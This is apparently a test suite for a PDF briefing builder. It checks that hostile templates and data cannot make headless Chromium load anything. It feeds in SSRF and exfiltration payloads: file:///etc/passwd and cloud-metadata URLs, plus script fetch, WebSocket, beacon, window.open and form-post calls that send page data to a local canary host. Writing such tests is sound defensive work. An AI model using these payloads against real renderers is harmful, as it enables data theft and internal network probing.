/**
 * Templates and data cannot reach out. A canary HTTP server on 127.0.0.1 counts every request
 * (and every TCP connection) while real Chromium prints briefings whose data, or whose custom
 * template set, tries every way of loading something we know of. The canary must see nothing,
 * nothing it would answer may reach the PDF or the HTML, and each request Chromium reports as
 * refused must come back as a warning naming it.
 *
 * The template attacks are grouped into a few builds, one per template set:
 *   default layout (its CSP) with scripts off · a layout whose CSP lets inline scripts run,
 *   scripts off, then on (`javascript: true`) · the default layout with `javascript: true` ·
 *   a layout with no CSP of its own and scripts on, where the build's policy must hold.
 */
import { readFileSync } from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type BuiltBriefing, build } from "../../src/build.js";
import { loadTemplates } from "../../src/render/templates.js";
import { ROOT, removeTempDirs, tempDir } from "../support/files.js";
import { pdfText } from "../support/pdf.js";
import {
  CANARY,
  type Canary,
  SMALL,
  scriptLayout,
  startCanary,
  templateSet,
  withNotes,
  writeInput,
} from "./support.js";

let canary: Canary;
beforeAll(async () => {
  canary = await startCanary();
});
afterAll(async () => {
  await canary?.close();
  removeTempDirs();
});

interface Outcome {
  built: BuiltBriefing;
  /** The warnings build() gave through onIssue. */
  warnings: string[];
  html: string;
  text: string;
  hits: string[];
  connections: number;
}

/** Builds `file` with `templates` and reads back what came out and what the canary saw. */
async function buildAndWatch(file: string, templates?: string): Promise<Outcome> {
  canary.reset();
  const out = tempDir("briefing-hostile-out-");
  const warnings: string[] = [];
  const [built] = await build({
    files: [file],
    outDir: out,
    // The markup here would be refused as the set is loaded (file-refs.ts): that check is off,
    // so that what it would have stopped reaches the page's own guards.
    ...(templates
      ? { templateSet: loadTemplates(templates, undefined, { references: false }) }
      : {}),
    onIssue: (issue) => {
      if (issue.severity === "warning") warnings.push(issue.message);
    },
  });
  if (!built?.html || !built.pdf) throw new Error("build gave no HTML or PDF");
  // Late requests (a refresh, a timer) would arrive just after printing: give them a moment.
  await new Promise((resolve) => setTimeout(resolve, 300));
  return {
    built,
    warnings,
    html: readFileSync(path.resolve(ROOT, built.html), "utf8"),
    text: pdfText(path.resolve(ROOT, built.pdf)),
    hits: [...canary.hits],
    connections: canary.connections,
  };
}

/** What must hold for every build: nothing reached the canary, nothing of it got printed. */
function expectNothingReached(outcome: Outcome): void {
  expect(outcome.hits, "requests that reached the canary").toEqual([]);
  expect(outcome.text.includes(CANARY), "no CANARY in text").toBe(false);
  expect(outcome.html.includes(CANARY), "no CANARY in html").toBe(false);
  // /etc/passwd's first line, had file:///etc/passwd been read into the page.
  expect(/root:x?:0:0/.test(outcome.text), "no line of /etc/passwd in the PDF").toBe(false);
  // Every refused request is also a warning naming it.
  for (const url of outcome.built.blocked)
    expect(outcome.warnings.some((w) => w.includes(url.slice(0, 90)))).toBe(true);
}

/** …and, where no vector navigates the page away, the briefing was printed whole and untouched. */
function expectIntact(outcome: Outcome): void {
  expectNothingReached(outcome);
  expect(
    outcome.text.includes("Audiensi dengan Gubernur"),
    "Audiensi dengan Gubernur in text",
  ).toBe(true);
  expect(outcome.text.includes("ERR_BLOCKED_BY_CLIENT"), "no ERR_BLOCKED_BY_CLIENT in text").toBe(
    false,
  );
}

/** Whether a refused request whose URL contains `part` was reported. */
const reported = (outcome: Outcome, part: string): boolean =>
  outcome.built.blocked.some((url) => url.includes(part));

/**
 * Markup that tries to load from `o` (the canary origin plus a per-build prefix). Some vectors
 * are tried in builds of their own, below, because they spoil the page for the rest (a
 * `<meta http-equiv="refresh">`, a `<link rel="preconnect">`, and `location=…` in a page whose
 * scripts run) or get through where no CSP stops them (`<link rel="prefetch">`).
 */
function staticVectors(o: string, port: number, csp: boolean, scriptsRun: boolean): string {
  const bare = o.replace(/^http:\/\/127\.0\.0\.1:\d+/, "");
  return `<style>@import url("${o}/style-import.css");</style>
<img src="file:///etc/passwd" alt="">
<img src="\\\\localhost\\share\\x.png" alt="">
<img src="http://169.254.169.254/latest/meta-data/" alt="">
<img src="HTTP://127.0.0.1:${port}${bare}/upper.png" alt="">
<img src="http://[::ffff:127.0.0.1]:${port}${bare}/v6.png" alt="">
<img src="http://127.0.0.1:${port}/redirect${bare}.png" alt="">
<iframe src="${o}/iframe.html"></iframe>
<iframe srcdoc="<img src='${o}/srcdoc.png'>"></iframe>
<object data="${o}/object.html"></object>
<embed src="${o}/embed.swf">
<link rel="stylesheet" href="${o}/link.css">
<link rel="preload" as="image" href="${o}/preload.png">
${csp ? `<link rel="prefetch" href="${o}/prefetch.html">\n` : ""}${scriptsRun ? "" : `<script>location='${o}/js'</script>\n`}<link rel="dns-prefetch" href="http://127.0.0.1:${port}">
<img srcset="${o}/srcset-1x.png 1x, ${o}/srcset-2x.png 2x" alt="">
<picture><source srcset="${o}/picture.png"><img alt=""></picture>
<video poster="${o}/poster.png" src="${o}/video.mp4"></video>
<audio src="${o}/audio.mp3" autoplay></audio>
<input type="image" src="${o}/input.png" alt="">
<svg width="10" height="10"><image href="${o}/svg-image.png" width="10" height="10"/></svg>
<div style="background-image:url('${o}/inline-style.png');width:10px;height:10px"></div>
<a href="${o}/anchor">a link is never followed</a>
`;
}

/**
 * A script that writes a marker into the page, then tries every way a script can reach out
 * without leaving the page. Navigating it (location=…) and opening windows are tried in
 * builds of their own, below.
 */
function scriptVectors(o: string, webSocket = true): string {
  return `<script>
document.body.insertAdjacentText("beforeend", "JS-RAN-MARKER");
const o = "${o}";
const attempt = (f) => { try { const p = f(); if (p && p.catch) p.catch(() => {}); } catch (e) {} };
attempt(() => fetch(o + "/fetch"));
attempt(() => { const x = new XMLHttpRequest(); x.open("GET", o + "/xhr"); x.send(); });
attempt(() => { new Image().src = o + "/script-image.png"; });
${webSocket ? 'attempt(() => new WebSocket(o.replace("http:", "ws:") + "/ws"));' : ""}
attempt(() => new EventSource(o + "/sse"));
attempt(() => navigator.sendBeacon(o + "/beacon", "x"));
attempt(() => import(o + "/module.js"));
attempt(() => new Worker(o + "/worker.js"));
</script>
`;
}

const CSS = (o: string) => `@import url("${o}/css-import.css");
@font-face { font-family: "Canary Font"; src: url(${o}/font.woff2) format("woff2"); }
.cover h1 { font-family: "Canary Font", "Source Sans 3"; }
.briefing { background-image: url("${o}/background.png"); }
.cover::after { content: url("${o}/content.png"); }
.notes li { list-style-image: url("${o}/bullet.png"); }
`;

/** A layout with no Content-Security-Policy at all: request interception is all that is left. */
const bareLayout = scriptLayout.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>\n/, "");

/** A template set whose footer and style carry the attacks, for requests to `o`. */
function attackSet(
  o: string,
  port: number,
  extra: Record<string, string> = {},
  /** The layout has no CSP, or its scripts run: leave out what would spoil the build (above). */
  { csp = true, scriptsRun = false } = {},
): string {
  const vectors = `${staticVectors(o, port, csp, scriptsRun)}${scriptVectors(o, csp)}`;
  return templateSet({
    "partials/footer.hbs": `${vectors}<footer class="colophon"><p>{{organisation}}</p></footer>\n`,
    "style.css": CSS(o),
    ...extra,
  });
}

describe("data that tries to reach out", () => {
  it("is printed as text: no vector in the data ever becomes a request", async () => {
    const o = `${canary.origin}/data`;
    const notes = [
      `<img src="file:///etc/passwd">`,
      "\\\\localhost\\share\\x.png",
      `<img src="http://169.254.169.254/latest/meta-data/">`,
      `<img src="HTTP://127.0.0.1:${canary.port}/data/upper">`,
      `<img src="http://[::ffff:127.0.0.1]:${canary.port}/data/v6">`,
      `<meta http-equiv="refresh" content="0;url=${o}/refresh">`,
      `<script>location='${o}/js'</script>`,
      `<style>@import url(${o}/import.css); @font-face { src: url(${o}/font.woff2) }</style>`,
      `<iframe src="${o}/iframe"></iframe><object data="${o}/object"></object>`,
      `<link rel=stylesheet href="${o}/link.css"><img srcset="${o}/srcset.png 1x">`,
      `url(${o}/css-url.png) } body { background: url(${o}/css-injection.png) }`,
    ].map((note) => JSON.stringify(note));
    const yaml = withNotes(notes).replace(
      "name: Lampung",
      `name: ${JSON.stringify(`Lampung <img src="${o}/unit-name.png">`)}`,
    );
    const outcome = await buildAndWatch(writeInput("data-vectors.yaml", yaml));
    expectIntact(outcome);
    expect(outcome.connections, "TCP connections to the canary").toBe(0);
    // Data is text: none of it is markup, so Chromium never even tries, and reports nothing.
    expect(outcome.built.blocked).toEqual([]);
    // No attribute of the page points anywhere but at a data: URL: every = and " of the data
    // was escaped, so none of it became an attribute.
    expect(
      /\b(src|href|data|srcset|action)=["']?(https?:|file:|\/\/|\\\\)/i.test(outcome.html),
      "an attribute pointing out of the page",
    ).toBe(false);
    expect(
      /http-equiv="?refresh|<script|<iframe|<object|<link/i.test(outcome.html),
      "markup from the data in the page",
    ).toBe(false);
    expect(
      outcome.html.includes("&lt;img src&#x3D;&quot;file:///etc/passwd&quot;&gt;"),
      "the data's <img> escaped",
    ).toBe(true);
    // …and the PDF shows it as the text it is.
    expect(
      outcome.text.includes("169.254.169.254/latest/meta-data/"),
      "169.254.169.254/latest/meta-data/ in text",
    ).toBe(true);
    expect(outcome.text.includes("<script>location="), "<script>location= in text").toBe(true);
  });
});

/** A template set with only `footer` as its footer partial, and whatever else `extra` says. */
const footerSet = (footer: string, extra: Record<string, string> = {}) =>
  templateSet({
    "partials/footer.hbs": `${footer}\n<footer class="colophon"><p>{{organisation}}</p></footer>\n`,
    ...extra,
  });

const scripted = { "layout.hbs": scriptLayout, "template.yaml": "javascript: true\n" };

describe("a custom template set that tries to reach out", () => {
  let defaultLayout: Outcome | undefined;
  let defaultLayoutScripts: Outcome | undefined;

  it("with the default layout (its CSP) and scripts off: every request refused", async () => {
    const o = `${canary.origin}/b`;
    const outcome = await buildAndWatch(SMALL, attackSet(o, canary.port));
    defaultLayout = outcome;
    expectIntact(outcome);
    expect(outcome.text.includes("JS-RAN-MARKER"), "no JS-RAN-MARKER in text").toBe(false);

    // Refused by the page's CSP (or by request interception) and reported, each by its URL.
    for (const part of [
      "http://169.254.169.254/latest/meta-data/",
      // An upper-case scheme and an IPv4-mapped IPv6 address, as Chromium normalises them.
      `http://127.0.0.1:${canary.port}/b/upper.png`,
      `http://[::ffff:7f00:1]:${canary.port}/b/v6.png`,
      // The canary would answer 302: the first request never leaves, so neither does the second.
      "/redirect/b.png",
      // A <style>@import at the top of a partial is a stylesheet's first rule: it is tried.
      "/b/style-import.css",
      "/b/object.html",
      "/b/embed.swf",
      "/b/link.css",
      "/b/preload.png",
      "/b/prefetch.html",
      "/b/srcset-1x.png",
      "/b/picture.png",
      "/b/poster.png",
      "/b/video.mp4",
      "/b/audio.mp3",
      "/b/input.png",
      "/b/svg-image.png",
      "/b/inline-style.png",
      "/b/srcdoc.png",
      "/b/font.woff2",
      "/b/background.png",
      "/b/content.png",
      "/b/bullet.png",
    ])
      expect(reported(outcome, part), `${part} reported`).toBe(true);
    // A frame is reported by its origin only: that is all Chromium names when it refuses one.
    expect(outcome.built.blocked).toContain(`${canary.origin}/`);
    // Never a request at all, so nothing to report:
    //  - \\localhost\share\x.png is no URL from an about:blank page (nothing to resolve it against);
    //  - the @import in style.css comes after other rules once the styles are joined: CSS drops it;
    //  - srcset-2x.png: Chromium picks the 1x candidate and asks for nothing else;
    //  - dns-prefetch makes no request; the scripts (fetch, location=…) do not run; a link is
    //    never followed.
    // (file:///etc/passwd is refused by Chromium itself, before the CSP, and not reported: see
    // the known bug just below.)
    for (const part of [
      "localhost",
      "share",
      "/b/css-import.css",
      "/b/srcset-2x.png",
      "/b/fetch",
      "/b/js",
      "/b/anchor",
    ])
      expect(reported(outcome, part), `${part} reported`).toBe(false);
  });

  // Regression (was a bug in src/print/pdf.ts, PrintPage.open(): only Content-Security-Policy console messages are
  // turned into refusals. Chromium refuses file:///etc/passwd before the CSP is asked, saying
  // "Not allowed to load local resource: file:///etc/passwd" on the console, and that is dropped:
  // the read of /etc/passwd is refused, but no warning names it.
  it("file:///etc/passwd, refused by Chromium itself, is reported too", () => {
    expect(defaultLayout).toBeDefined();
    expect(reported(defaultLayout as Outcome, "file:///etc/passwd")).toBe(true);
  });

  // Regression (was a bug in src/print/browser/manager.ts (launch flags) / src/print/pdf.ts: for the <iframe> (and
  // an <object> without a CSP) Chromium opens a TCP connection to the canary before the CSP or
  // request interception refuses the request: no HTTP request is made, but the host named
  // learns that the briefing was printed, and when.
  it("…and opened no TCP connection to the canary either", () => {
    expect(defaultLayout).toBeDefined();
    expect(defaultLayout?.connections).toBe(0);
  });

  it("with a layout whose CSP allows inline scripts, but scripts off: no script runs", async () => {
    const o = `${canary.origin}/b2`;
    const outcome = await buildAndWatch(
      SMALL,
      attackSet(o, canary.port, { "layout.hbs": scriptLayout }),
    );
    expectIntact(outcome);
    // The CSP would let the script run: it is the printer that keeps JavaScript off.
    expect(outcome.text.includes("JS-RAN-MARKER"), "no JS-RAN-MARKER in text").toBe(false);
    expect(reported(outcome, "/b2/fetch")).toBe(false);
    expect(reported(outcome, "/b2/srcset-1x.png")).toBe(true);
  });

  it("with that layout and `javascript: true`: the script runs, and still nothing loads", async () => {
    const o = `${canary.origin}/d`;
    const outcome = await buildAndWatch(
      SMALL,
      attackSet(o, canary.port, scripted, { scriptsRun: true }),
    );
    expect(outcome.text.includes("JS-RAN-MARKER"), "JS-RAN-MARKER in text").toBe(true);
    expectIntact(outcome);
    for (const part of [
      "/d/fetch",
      "/d/xhr",
      "/d/script-image.png",
      "ws://127.0.0.1",
      "/d/sse",
      "/d/beacon",
      "/d/module.js",
    ])
      expect(reported(outcome, part), `${part} reported`).toBe(true);
    // A worker from an about:blank page is refused before any request: nothing to report.
    expect(reported(outcome, "/d/worker.js")).toBe(false);
  });

  it("with the default layout and `javascript: true`: its CSP still stops inline scripts", async () => {
    const o = `${canary.origin}/c`;
    const outcome = await buildAndWatch(
      SMALL,
      attackSet(o, canary.port, { "template.yaml": "javascript: true\n" }),
    );
    defaultLayoutScripts = outcome;
    expectIntact(outcome);
    // A set that wants scripts needs a layout whose CSP allows them.
    expect(outcome.text.includes("JS-RAN-MARKER"), "no JS-RAN-MARKER in text").toBe(false);
    expect(reported(outcome, "/c/fetch")).toBe(false);
  });

  // Regression (was a bug in src/print/pdf.ts, PrintPage.open(): a refusal is read from a CSP console message by
  // its first '…'-quoted part. For an inline script the CSP stops, that part is no URL but a
  // piece of the directive, so the build warns "the page tried to load default-src ; refused".
  it("what is reported as refused is always a URL, never a piece of a CSP message", () => {
    expect(defaultLayoutScripts).toBeDefined();
    for (const url of defaultLayoutScripts?.built.blocked ?? []) expect(url).toMatch(/^[a-z]+:/);
  });

  it("with a layout without a CSP of its own and `javascript: true`: the build's policy holds", async () => {
    const o = `${canary.origin}/e`;
    // A WebSocket and a <link rel=prefetch> are left out here: see their own case below.
    const outcome = await buildAndWatch(
      SMALL,
      attackSet(
        o,
        canary.port,
        { ...scripted, "layout.hbs": bareLayout },
        { csp: false, scriptsRun: true },
      ),
    );
    expect(outcome.text.includes("JS-RAN-MARKER"), "JS-RAN-MARKER in text").toBe(true);
    expectIntact(outcome);
    for (const part of ["/e/fetch", "/e/xhr", "/e/srcset-1x.png", "/e/font.woff2"])
      expect(reported(outcome, part), `${part} reported`).toBe(true);
    // The policy comes from the build, not the layout: it refuses the frame, by its origin.
    expect(outcome.html).toContain('<meta http-equiv="Content-Security-Policy"');
    expect(outcome.built.blocked).toContain(`${canary.origin}/`);
  });
});

describe("ways out that spoil the page or get through (known bugs)", () => {
  // Regression (was a bug in src/print/pdf.ts, PrintPage.print(): a <meta http-equiv="refresh"> (no script needed,
  // the default layout and its CSP in place) navigates the page once it has loaded. The
  // navigation is refused and reported, but Chromium then shows its error page
  // (chrome-error://chromewebdata/) in place of the briefing. Depending on the race with
  // Page.printToPDF, either that page is printed and written as the briefing's PDF with no
  // error (nothing checks the page printed is still the briefing), or printing fails with
  // "the browser failed while printing: Protocol error (Page.printToPDF): Printing failed"
  // after the browser is killed and the briefing retried: exit 3, blamed on the environment,
  // for what the template did. Chromium also opens TCP connections to the target first.
  // Now it is removed when the page is built, with a warning: the archived HTML, opened in an
  // ordinary browser, navigated away too.
  it("a <meta http-equiv=refresh> is removed, with a warning: the briefing printed, unconnected", async () => {
    const outcome = await buildAndWatch(
      SMALL,
      footerSet(`<meta http-equiv="refresh" content="0;url=${canary.origin}/refresh">`),
    );
    expectNothingReached(outcome);
    expect(
      outcome.warnings.some((w) =>
        w.startsWith("removed from the page: <meta http-equiv=refresh>"),
      ),
    ).toBe(true);
    expect(outcome.html).not.toMatch(/http-equiv="?refresh/i);
    expect(outcome.connections).toBe(0);
    expectIntact(outcome);
  });

  // Regression (was a bug in src/print/browser/manager.ts (launch flags) / src/print/pdf.ts: <link rel=preconnect>
  // is no request, so neither the CSP nor request interception sees it, and Chromium opens a
  // TCP connection to the host named: the canary learns the briefing was printed, and when.
  it("a <link rel=preconnect> opens no connection", async () => {
    const outcome = await buildAndWatch(
      SMALL,
      footerSet(`<link rel="preconnect" href="${canary.origin}">`),
    );
    expectNothingReached(outcome);
    expect(outcome.connections, "TCP connections to the canary").toBe(0);
  });

  // Regression (was a bug in src/print/pdf.ts, PrintPage.print(): with `javascript: true`, `location = …` is refused
  // and reported, but the page left behind is Chromium's error page ("127.0.0.1 is blocked …
  // ERR_BLOCKED_BY_CLIENT"), and the build writes it as the briefing's PDF without an error.
  it("a script's location = … leaves the briefing printed", async () => {
    const outcome = await buildAndWatch(
      SMALL,
      footerSet(`<script>location = "${canary.origin}/js";</script>`, scripted),
    );
    expectNothingReached(outcome);
    expect(reported(outcome, "/js")).toBe(true);
    expectIntact(outcome);
  });

  // Regression (was a bug in src/print/pdf.ts (request interception is set on the briefing's page only) with the
  // --disable-popup-blocking puppeteer launches with: with `javascript: true`, window.open()
  // and a form posted to target=_blank open new pages whose requests nobody intercepts and the
  // page's CSP does not govern. Both reach the canary (GET /popup, POST /form, and each
  // window's /favicon.ico): data can leave, nothing is reported.
  it("window.open() and a form posted to a new window reach nothing", async () => {
    const outcome = await buildAndWatch(
      SMALL,
      footerSet(
        `<script>
window.open("${canary.origin}/popup?title=" + encodeURIComponent(document.title));
const f = document.createElement("form");
f.action = "${canary.origin}/form"; f.method = "post"; f.target = "_blank";
document.body.append(f); f.submit();
</script>`,
        scripted,
      ),
    );
    expectNothingReached(outcome);
  });

  // Regression (was a bug in src/print/pdf.ts: request interception (the Fetch domain) sees neither WebSockets nor
  // <link rel=prefetch> (the browser fetches that itself, no script needed). With the default
  // layout its CSP stops both (see above), but a set whose layout leaves the CSP out reaches
  // the canary with GET /prefetch.html, and with `javascript: true` a ws:// upgrade too. The
  // README promises that "either way the page loads nothing but its own data: URLs".
  it("a WebSocket and a <link rel=prefetch> from a page without a CSP reach nothing", async () => {
    const outcome = await buildAndWatch(
      SMALL,
      footerSet(
        `<link rel="prefetch" href="${canary.origin}/prefetch.html">
<script>new WebSocket("ws://127.0.0.1:${canary.port}/ws");</script>`,
        { ...scripted, "layout.hbs": bareLayout },
      ),
    );
    expectNothingReached(outcome);
    // Reported by name too, though interception never saw them (the Network domain did).
    expect(reported(outcome, "/prefetch.html"), "prefetch reported").toBe(true);
    expect(reported(outcome, `ws://127.0.0.1:${canary.port}/ws`), "WebSocket reported").toBe(true);
  });
});
